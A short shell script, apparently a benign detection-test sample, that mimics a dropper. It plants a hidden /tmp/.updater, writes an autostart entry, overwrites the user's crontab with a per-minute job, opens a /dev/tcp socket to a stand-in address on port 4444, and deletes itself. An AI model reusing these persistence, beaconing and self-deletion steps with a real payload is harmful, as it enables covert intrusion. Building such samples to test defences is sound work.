#!/bin/sh
# harmless sample that behaves like a dropper with persistence
mkdir -p ~/.config/autostart
echo "[Desktop Entry]" > ~/.config/autostart/updater.desktop
cp /bin/true /tmp/.updater
chmod +x /tmp/.updater
/tmp/.updater
echo "* * * * * /tmp/.updater" > /tmp/cron.txt
crontab /tmp/cron.txt 2>/dev/null
bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444' 2>/dev/null
rm -f "$0" 2>/dev/null
exit 0
